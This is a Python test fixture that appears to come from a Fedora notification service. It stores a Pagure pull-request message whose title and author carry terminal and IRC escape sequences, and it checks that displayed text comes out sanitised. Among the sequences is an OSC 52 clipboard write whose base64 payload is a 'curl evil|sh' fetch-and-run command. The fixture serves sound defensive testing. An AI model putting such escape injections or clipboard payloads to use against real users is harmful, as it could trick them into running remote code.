"""A bus message whose text attacks whoever shows it, stored as ingest stores it.

A Pagure pull request's title becomes its message's summary, and its author the
message's agent and one of its users. Here the title and the author carry what a
terminal or an IRC client acts on, and the topic cursor moves, for the views that
show a message (``preview``, ``recent_notifications``, ``explain``).
"""

from __future__ import annotations

import copy
import dataclasses
import datetime as dt
import json
import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from fmn_core.db import Database
from fmn_core.display import display_fields
from fmn_core.messages import facts_of, load_message
from fmn_core.models import StoredMessage, utcnow

PAGURE_PR = "org.fedoraproject.prod.pagure.pull-request.new"

#: What the title carries: the window title (OSC 0), the clipboard (OSC 52: "curl
#: evil|sh"), a cleared screen and a forged line (CSI), hidden and bold text on IRC,
#: a NUL. The words around them are what a person should still read.
HOSTILE_TITLE = (
    "fix\x1b]0;PWNED\x1b\\ clip\x1b]52;c;Y3VybCBldmlsfHNo\x07 wipe\x1b[2J"
    "\x1b[1A\x1b[2Kirc: notified by filter 'x' \x0301,01hidden\x0f \x02bold\x02 nul\x00end"
)
#: A lone surrogate (JSON ``"\\ud800"``). Ingest now reads one as U+FFFD, but bodies
#: stored before it did may hold one on either database (PostgreSQL's ``json`` type
#: keeps the escape as it is), so every view must still cope with it.
LONE_SURROGATE = " lone\ud800surrogate"
HOSTILE_AGENT = "zbyszek\x1b[2J\x03"
HOSTILE_TOPIC = PAGURE_PR + "\x1b[1A\x1b[2K"

#: What people are shown of them: each control character a space, spaces folded.
SHOWN_TITLE = (
    "fix ]0;PWNED \\ clip ]52;c;Y3VybCBldmlsfHNo wipe [2J [1A [2Kirc: notified by filter 'x' "
    "01,01hidden bold nul end"
)
SHOWN_SURROGATE = " lone surrogate"
SHOWN_AGENT = "zbyszek [2J"
SHOWN_TOPIC = PAGURE_PR + " [1A [2K"


@dataclass(frozen=True)
class HostileMessage:
    """The stored message's id, and the summary people should be shown of it."""

    id: str
    shown_summary: str


def store_hostile_message(db: Database, corpus: list[str]) -> HostileMessage:
    """A corpus Pagure pull request with a hostile title, author and topic, stored now.

    The schema is named in the headers, so the changed topic still reads as Pagure's;
    the display columns are what ingest computes (``fmn_core.display``).
    """
    lines = (json.loads(line) for line in corpus)
    data = next(
        d for d in lines if d["topic"] == PAGURE_PR and "title" in d["body"].get("pullrequest", {})
    )
    data = copy.deepcopy({key: data[key] for key in ("id", "topic", "body", "headers")})
    title = HOSTILE_TITLE + LONE_SURROGATE
    data["body"]["pullrequest"]["title"] = title
    data["body"]["agent"] = HOSTILE_AGENT
    data["topic"] = HOSTILE_TOPIC
    data["headers"] = {"fedora_messaging_schema": "pagure.pull-request.new"}
    facts = facts_of(load_message(data))
    assert facts.schema == "pagure.pull-request.new" and title in facts.summary
    summary, url, app = display_fields(facts)
    with db.begin() as session:
        session.add(
            StoredMessage(
                id=data["id"],
                topic=data["topic"],
                body=data["body"],
                headers=data["headers"],
                received_at=utcnow() - dt.timedelta(minutes=1),
                summary=summary,
                url=url,
                app=app,
            )
        )
    # "<agent> opened a pull-request <project>#<n>: <title>"
    assert facts.summary.startswith(HOSTILE_AGENT) and facts.summary.endswith(title)
    between = facts.summary.removeprefix(HOSTILE_AGENT).removesuffix(title)
    shown_title = SHOWN_TITLE + (SHOWN_SURROGATE if title.endswith(LONE_SURROGATE) else "")
    return HostileMessage(data["id"], f"{SHOWN_AGENT}{between}{shown_title}")


def strings_in(value: Any) -> Iterator[str]:
    """Every text in a view: its fields', its mappings' and its sequences', all the way down."""
    if isinstance(value, str):
        yield value
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        for field in dataclasses.fields(value):
            yield from strings_in(getattr(value, field.name))
    elif isinstance(value, Mapping):
        for key, item in value.items():
            yield from strings_in(key)
            yield from strings_in(item)
    elif isinstance(value, list | tuple | set | frozenset):
        for item in value:
            yield from strings_in(item)


def assert_shown_clean(text: str) -> None:
    """``text`` is one line a terminal or IRC client shows as it is, and UTF-8 can carry."""
    text.encode("utf-8")  # a lone surrogate raises here
    unsafe = [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    assert unsafe == [], (text, unsafe)
